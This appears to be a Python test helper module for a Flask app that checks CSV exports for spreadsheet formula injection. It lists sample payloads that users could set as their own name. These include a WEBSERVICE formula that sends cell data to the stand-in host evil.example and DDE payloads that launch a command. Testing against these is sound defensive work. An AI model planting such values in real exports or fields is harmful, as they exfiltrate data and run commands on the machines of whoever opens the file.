"""Reading the CSV exports back, and the names an attacker gives themselves to reach them."""

from __future__ import annotations

import csv
import io
from typing import Any

from flask.testing import FlaskClient

from tests.factories import Account

#: Text that a spreadsheet would run as a formula: one for each character that starts one.
FORMULAS = (
    '=WEBSERVICE("http://evil.example/?p="&D3&D4)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
)


def csv_rows(response: Any) -> list[list[str]]:
    """The export's rows, header first, as Excel would split them."""
    assert response.status_code == 200, response.data[:300]
    assert response.content_type == "text/csv; charset=utf-8"
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")  # so Excel reads UTF-8
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def renamed(client: FlaskClient, resident: Account, name: str) -> Account:
    """The resident gives themselves ``name`` in the mini-program."""
    response = client.patch("/api/v1/me", headers=resident.headers, json={"name": name})
    assert response.status_code == 200, response.json
    return resident
